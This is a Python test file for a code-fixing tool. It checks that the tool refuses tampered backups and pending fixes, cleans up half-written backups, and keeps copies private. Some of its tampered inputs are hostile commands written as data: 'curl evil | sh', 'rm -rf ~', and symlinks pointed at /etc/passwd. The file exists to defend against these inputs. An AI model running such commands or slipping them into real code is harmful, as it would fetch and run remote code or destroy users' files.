"""Backups and the other copies mechanic keeps, as an attacker would test them.

A backup is written back into a user's file only if it is what the record says:
a regular file inside the backup folder holding exactly the original bytes
(`revert`, a pending patch's `accept`, and recovery all read it that way).
Half-written backups of killed processes are cleaned up, and every copy of a
user's file is as private as the file itself.
"""

from __future__ import annotations

import fcntl
import os
import sqlite3
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from mechanic.store import Store
from mechanic.write import journal, transaction

BROKEN = b"def total(items):\n    return sum(items\n"
FIXED = b"def total(items):\n    return sum(items)\n"


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def applied(workspace):
    """a.py fixed by `mechanic once` (the zero-token rung): (file, attempt, backup)."""
    path = workspace.file("a.py", BROKEN)
    attempt = workspace.run("once", "--json").attempts()["a.py"]
    assert attempt["outcome"] == "applied" and path.read_bytes() == FIXED
    return path, attempt["id"], Path(attempt["backup"])


def refused_revert(workspace, path: Path, attempt: int, words: str) -> None:
    result = workspace.run("revert", str(attempt), timeout=30)
    assert result.returncode == 1, result.stdout
    assert "not reverted" in result.stderr and words in result.stderr, result.stderr
    assert "Traceback" not in result.stderr
    assert path.read_bytes() == FIXED  # nothing was written
    with Store.open(workspace.state) as store:
        assert store.attempt(attempt).undone_at is None


# --- revert ---------------------------------------------------------------------


def test_revert_refuses_a_backup_that_was_altered(workspace, applied):
    path, attempt, backup = applied
    backup.write_bytes(b"import os\nos.system('curl evil | sh')\n")
    refused_revert(workspace, path, attempt, "does not hold the original bytes")


def test_revert_refuses_a_backup_swapped_for_a_link_to_a_system_file(workspace, applied):
    path, attempt, backup = applied
    backup.unlink()
    backup.symlink_to("/etc/passwd")
    refused_revert(workspace, path, attempt, "not inside the backup folder")


def test_revert_refuses_a_backup_swapped_for_a_fifo_without_hanging(workspace, applied):
    path, attempt, backup = applied
    backup.unlink()
    os.mkfifo(backup)
    refused_revert(workspace, path, attempt, "not a regular file")


def test_revert_refuses_a_stored_backup_path_that_climbs_out(workspace, applied):
    """Even a file holding exactly the original bytes is refused outside the folder."""
    path, attempt, _ = applied
    decoy = workspace.root / "decoy.py"
    decoy.write_bytes(BROKEN)
    climbing = f"{workspace.backups}/../decoy.py"
    db = sqlite3.connect(workspace.state / "mechanic.sqlite3")
    with db:
        db.execute("UPDATE attempts SET backup_path = ? WHERE id = ?", (climbing, attempt))
    db.close()
    refused_revert(workspace, path, attempt, "not inside the backup folder")


def test_revert_follows_a_link_that_stays_inside_the_backup_folder(workspace, applied):
    path, attempt, backup = applied
    moved = backup.with_name("moved.bak")
    backup.rename(moved)
    backup.symlink_to(moved.name)
    result = workspace.run("revert", str(attempt))
    assert result.returncode == 0, result.stderr
    assert path.read_bytes() == BROKEN


def test_a_revert_killed_before_it_was_marked_is_marked_by_the_next_cycle(workspace, applied):
    """The backup is back in place but the process died before `undone_at` was set:
    recovery finds the restore's intent and marks the attempt undone."""
    path, attempt, backup = applied
    from mechanic.detect.discovery import Guard

    transaction.restore_backup(
        path,
        backup=backup,
        expected=FIXED,
        guard=Guard([], [workspace.src]),
        backup_dir=workspace.backups,
        original_sha=transaction.sha256(BROKEN),
        undoes=attempt,
    )  # ... and the process dies here, before mark_undone and settle
    assert path.read_bytes() == BROKEN
    result = workspace.run("once", "--json")
    assert [r["action"] for r in result.json["recovered"]] == ["kept-new"]
    with Store.open(workspace.state) as store:
        assert store.attempt(attempt).undone_at is not None
    assert list(journal.intents_dir(workspace.backups).iterdir()) == []


# --- accept (review mode) ---------------------------------------------------------


@pytest.fixture
def pending(workspace):
    workspace.write_config(mechanic={"apply": "review"})
    path = workspace.file("a.py", BROKEN)
    result = workspace.run("once", "--json")
    assert result.attempts()["a.py"]["outcome"] == "pending"
    [fix] = (workspace.backups / "pending").iterdir()
    return path, fix


def test_accept_refuses_a_pending_fix_swapped_for_a_link_outside(workspace, pending):
    path, fix = pending
    outside = workspace.root / "same-bytes.py"
    outside.write_bytes(fix.read_bytes())
    fix.unlink()
    fix.symlink_to(outside)
    result = workspace.run("accept", "1", timeout=30)
    assert result.returncode == 1
    assert "not inside the backup folder" in result.stderr
    assert path.read_bytes() == BROKEN


def test_accept_refuses_a_pending_fix_swapped_for_a_fifo_without_hanging(workspace, pending):
    path, fix = pending
    fix.unlink()
    os.mkfifo(fix)
    result = workspace.run("accept", "1", timeout=30)
    assert result.returncode == 1
    assert "not a regular file" in result.stderr
    assert path.read_bytes() == BROKEN


def test_accept_refuses_an_altered_pending_fix(workspace, pending):
    path, fix = pending
    fix.write_bytes(b"import os\nos.system('rm -rf ~')\n")
    result = workspace.run("accept", "1")
    assert result.returncode == 1 and "its hash differs" in result.stderr
    assert path.read_bytes() == BROKEN


# --- recovery --------------------------------------------------------------------


def interrupted_revert(workspace, on_disk: bytes) -> tuple[Path, Path]:
    """A write that failed its check on disk, its process killed before the
    original came back: the file holds `on_disk`, the intent says "revert"."""
    target = workspace.file("a.py", on_disk)
    backup = transaction.write_backup(target, BROKEN, workspace.backups)
    intent = journal.begin(
        journal.intents_dir(workspace.backups),
        {
            "target": str(target),
            "backup": str(backup),
            "old_sha": transaction.sha256(BROKEN),
            "new_sha": transaction.sha256(on_disk),
            "language": "python",
            "phase": "apply",
        },
    )
    intent.mark("revert")
    os.close(intent._fd)  # the process dies; its lock goes
    return target, backup


@pytest.mark.parametrize("swap", ["altered", "link to /etc/passwd", "fifo"])
def test_recovery_never_restores_from_a_backup_that_is_not_the_original(workspace, swap):
    bad_fix = b"def total(items):\n    return sum(items)\n\nundefined_name\n"
    target, backup = interrupted_revert(workspace, bad_fix)
    backup.unlink()
    if swap == "altered":
        backup.write_bytes(b"print('not the original')\n")
    elif swap == "fifo":
        os.mkfifo(backup)
    else:
        backup.symlink_to("/etc/passwd")
    result = workspace.run("once", "--json", timeout=60)
    [recovered] = result.json["recovered"]
    assert recovered["action"] == "left"
    assert target.read_bytes() == bad_fix  # not the backup's bytes, nor /etc/passwd's


def test_recovery_restores_from_a_backup_that_is_the_original(workspace):
    target, _ = interrupted_revert(workspace, b"def total(items):\n    return 1\n")
    result = workspace.run("once", "--json")
    assert [r["action"] for r in result.json["recovered"]] == ["restored"]
    assert target.read_bytes() in (BROKEN, FIXED)  # restored, then fixed again this cycle


# --- half-written backups ------------------------------------------------------------


def dead_pid() -> int:
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


def test_recovery_removes_the_half_written_backups_of_dead_processes_only(workspace, tmp_path):
    workspace.file("ok.py", b"x = 1\n")
    workspace.backups.mkdir()
    (workspace.backups / "pending").mkdir()
    gone = dead_pid()
    dead = workspace.backups / f".a.py.20260101T000000.0badc0de.{gone}.part"
    dead_fix = workspace.backups / "pending" / f".{'0' * 64}.fix.{gone}.part"
    live = workspace.backups / f".b.py.20260101T000000.0badc0de.{os.getpid()}.part"
    # Its pid means nothing here (another pid namespace) but its writer holds the lock.
    held = workspace.backups / f".c.py.20260101T000000.0badc0de.{gone}.part"
    not_ours = workspace.backups / f"notes.{gone}.part.txt"
    for path in (dead, dead_fix, live, held, not_ours):
        path.write_bytes(BROKEN[:7])
    with open(held, "rb") as holder:
        fcntl.flock(holder, fcntl.LOCK_EX)
        assert workspace.run("once").returncode == 0
    assert not dead.exists() and not dead_fix.exists()
    assert live.exists() and held.exists() and not_ours.exists()


# --- private copies -----------------------------------------------------------------


def test_copies_of_a_0600_file_are_readable_by_its_owner_only(workspace):
    path = workspace.file("token.py", BROKEN)
    path.chmod(0o600)
    attempt = workspace.run("once", "--json").attempts()["token.py"]
    assert attempt["outcome"] == "applied"
    backup = Path(attempt["backup"])
    assert backup.read_bytes() == BROKEN
    assert mode(backup) == 0o600 and mode(path) == 0o600
    assert mode(workspace.backups) == 0o700
    assert mode(journal.intents_dir(workspace.backups)) == 0o700
    assert mode(workspace.state) == 0o700
    assert mode(workspace.state / "mechanic.sqlite3") == 0o600
    assert mode(workspace.state / "mechanic.log") == 0o600


def test_a_backup_is_never_wider_than_its_original(workspace):
    path = workspace.file("shared.py", BROKEN)
    path.chmod(0o640)
    backup = Path(workspace.run("once", "--json").attempts()["shared.py"]["backup"])
    assert mode(backup) == 0o640


def test_the_store_journal_files_are_as_private_as_the_store(workspace):
    workspace.run("once")
    with Store.open(workspace.state) as store:
        store.recent_attempts()  # WAL mode: -wal and -shm exist while it is open
        for suffix in ("-wal", "-shm"):
            sibling = workspace.state / f"mechanic.sqlite3{suffix}"
            assert sibling.exists() and mode(sibling) == 0o600, suffix


def test_a_store_and_logs_made_wider_before_are_narrowed(workspace):
    workspace.run("once")
    rotated = workspace.state / "mechanic.log.1"
    rotated.write_text("{}\n")
    for path in (workspace.state / "mechanic.sqlite3", workspace.state / "mechanic.log", rotated):
        path.chmod(0o644)
    workspace.run("once")
    for path in (workspace.state / "mechanic.sqlite3", workspace.state / "mechanic.log", rotated):
        assert mode(path) == 0o600, path


def test_a_pending_fix_is_private(workspace, pending):
    _, fix = pending
    assert mode(fix) == 0o600 and mode(fix.parent) == 0o700


# --- doctor ----------------------------------------------------------------------------


def test_doctor_warns_of_state_and_backup_folders_others_can_read(workspace):
    workspace.state.mkdir(mode=0o755)
    workspace.backups.mkdir(mode=0o755)
    os.chmod(workspace.state, 0o755)  # whatever the umask
    os.chmod(workspace.backups, 0o755)
    result = workspace.run("doctor")
    [line] = [line for line in result.stdout.splitlines() if " privacy " in line]
    assert line.startswith("problem")
    assert f"{workspace.state} (755)" in line and f"{workspace.backups} (755)" in line
    fix = result.stdout.split(line, 1)[1].splitlines()[1].split("fix: ", 1)[1]
    assert fix == f"chmod -R go= {workspace.state} {workspace.backups}"
    subprocess.run(fix, shell=True, check=True)
    again = workspace.run("doctor")
    assert any(
        line.startswith("ok") and " privacy " in line for line in again.stdout.splitlines()
    ), again.stdout
